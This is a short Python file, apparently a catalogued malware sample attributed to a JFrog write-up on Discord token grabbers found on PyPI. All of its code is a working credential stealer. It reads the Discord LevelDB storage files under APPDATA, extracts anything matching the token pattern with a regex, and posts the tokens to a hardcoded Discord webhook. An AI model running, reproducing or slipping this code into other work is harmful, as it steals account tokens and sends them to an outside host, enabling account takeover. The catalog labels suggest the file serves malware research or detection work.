# technique: Discord tokens from LevelDB files posted to a Discord webhook
# class: exfiltration
# source: JFrog, "noblesse" family write-up (Discord token grabbers on PyPI)
# declares: network
import os
import re

import requests

WEBHOOK = "https://discord.com/api/webhooks/1083472211133460560/sR8e0kQf2w1W3Y7b"


def grab():
    found = []
    root = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
    for name in os.listdir(root):
        for line in open(os.path.join(root, name), errors="ignore"):
            found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line)
    requests.post(WEBHOOK, json={"content": "\n".join(found)}, timeout=5)
